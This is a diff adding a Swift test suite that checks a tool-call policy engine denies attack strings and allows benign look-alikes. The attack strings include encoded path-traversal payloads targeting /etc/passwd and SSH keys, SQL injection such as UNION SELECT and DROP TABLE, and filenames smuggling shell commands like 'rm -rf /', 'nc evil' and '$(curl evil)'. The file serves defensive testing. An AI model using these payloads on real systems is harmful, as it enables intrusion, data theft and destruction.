@@ -1,0 +1,87 @@
+import Policy
+import Testing
+
+/// Real attack strings against the shipped example policies (policies/), with the benign look-alikes that must pass.
+@Suite("Attack table against the shipped policies")
+struct AttackTableTests {
+    static let snapshot = try! PolicyFixtures.shipped()
+
+    func decide(_ tenant: String, _ tool: String, _ arguments: String, agent: String = "bot1", scopes: Set<String> = ["tools:read"]) throws -> PolicyDecision {
+        Self.snapshot.evaluate(try PolicyFixtures.call(tool, arguments, agent: agent, tenant: tenant, scopes: scopes))
+    }
+
+    @Test("path traversal in every disguise is denied (acme read_file)", arguments: [
+        #"{"path":"../../etc/passwd"}"#, #"{"path":"..\\..\\windows\\win.ini"}"#, #"{"path":"%2e%2e/%2e%2e/etc/passwd"}"#,
+        #"{"path":"%252e%252e/etc/passwd"}"#, #"{"path":"%25252e%25252e%25252fetc"}"#, #"{"path":"．．／．．／etc/passwd"}"#,
+        #"{"path":"docs/../../secret"}"#, #"{"opts":{"path":"../x"}}"#, #"{"path":["ok.txt","../x"]}"#,
+        #"{"PATH":"../x"}"#, #"{"Path":"../x"}"#, #"{"ＰＡＴＨ":"../x"}"#, #"{"path":"ok.txt","PATH":"../x"}"#,
+        #"{"path":"notes.txt\u0000../../etc/passwd"}"#, #"{"path":"/etc/passwd"}"#, #"{"path":"C:/Windows/system.ini"}"#,
+        #"{"path":"~/.ssh/id_rsa"}"#, #"{"path":"..%c0%af../etc"}"#, #"{"path":"..%5c..%5cboot.ini"}"#,
+    ])
+    func traversal(arguments: String) throws {
+        let decision = try decide("acme", "read_file", arguments)
+        #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
+        #expect(["R4", "A1"].contains(decision.rule), "\(arguments): decided by \(decision.rule)")
+    }
+
+    @Test("benign file names pass", arguments: [
+        #"{"path":"notes..txt"}"#, #"{"path":"docs/report.v2..final.md"}"#, #"{"path":"a/b/c.txt"}"#, #"{"path":"..hidden"}"#,
+        #"{"path":"100%.txt"}"#,
+    ])
+    func benignPaths(arguments: String) throws {
+        let decision = try decide("acme", "read_file", arguments)
+        #expect(decision.outcome == .allow, "\(arguments): \(decision.reason)")
+    }
+
+    @Test("SQL injection is denied where the detector applies (acme query_db, globex exec_sql)", arguments: [
+        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = '' OR '1'='1'"}"#),
+        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id = 1; DROP TABLE users; --"}"#),
+        ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE b='x' UNION SELECT password FROM users"}"#),
+        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = 'admin'--'"}"#),
+        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id=1 AND SLEEP(5)"}"#),
+        ("acme", "query_db", #"{"sql":"SELECT%20*%20FROM%20t%20WHERE%20a%3D''%20OR%201%3D1"}"#),
+        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE a = 'x' uNiOn/**/SeLeCt pw FROM u"}"#),
+        ("globex", "exec_sql", #"{"query":"SELECT * FROM t WHERE a=''; DELETE FROM t; "}"#),
+        ("globex", "exec_sql", #"{"query":"DELETE FROM t"}"#),
+    ])
+    func sqlInjection(tenant: String, tool: String, arguments: String) throws {
+        let decision = try decide(tenant, tool, arguments)
+        #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
+    }
+
+    @Test("benign SQL and names pass")
+    func benignSQL() throws {
+        #expect(try decide("acme", "query_db", #"{"sql":"SELECT name FROM people WHERE name = 'O''Brien'"}"#).outcome == .audit)
+        #expect(try decide("globex", "exec_sql", #"{"query":"select id from tickets where owner = 'bob'"}"#).outcome == .allow)
+        // No detector applies to a ticket title: O'Brien; DROP is just text there.
+        #expect(try decide("globex", "create_ticket", #"{"title":"O'Brien says: DROP the old plan"}"#).outcome == .audit)
+    }
+
+    @Test("shell metacharacters are denied where the detector applies (globex convert_document)", arguments: [
+        "report.pdf; rm -rf /", "a.pdf | nc evil 1", "$(curl evil)", "`id`.pdf", "a.pdf && reboot", "x > /etc/passwd",
+        "${IFS}cat", "$HOME/x", "a.pdf\nrm", "%3B%20rm%20-rf", "ａ．ｐｄｆ；ｒｍ",
+    ])
+    func shell(filename: String) throws {
+        let escaped = filename.replacingOccurrences(of: "\n", with: "\\n")
+        let decision = try decide("globex", "convert_document", #"{"filename":"\#(escaped)"}"#)
+        #expect(decision.outcome == .deny, "\(filename): \(decision.reason)")
+        #expect(decision.rule == "X4")
+    }
+
+    @Test("benign file names pass the shell detector")
+    func benignShell() throws {
+        #expect(try decide("globex", "convert_document", #"{"filename":"Q3 report (final).pdf"}"#).outcome == .allow)
+        #expect(try decide("globex", "convert_document", #"{"filename":"price-$5.pdf"}"#).outcome == .allow)
+    }
+
+    @Test("agent, scope and argument requirements of acme query_db")
+    func queryRequirements() throws {
+        #expect(try decide("acme", "query_db", #"{"sql":"SELECT 1 "}"#, agent: "bot2").outcome == .deny)
+        #expect(try decide("acme", "query_db", #"{"sql":"SELECT 1 "}"#, scopes: []).outcome == .deny)
+        #expect(try decide("acme", "query_db", #"{"sql":7}"#).outcome == .deny)
+        #expect(try decide("acme", "query_db", #"{}"#).outcome == .deny)
+        let audited = try decide("acme", "query_db", #"{"sql":"SELECT 1 "}"#, agent: "analyst-7")
+        #expect(audited.outcome == .audit)
+        #expect(audited.logArguments)
+    }
+}
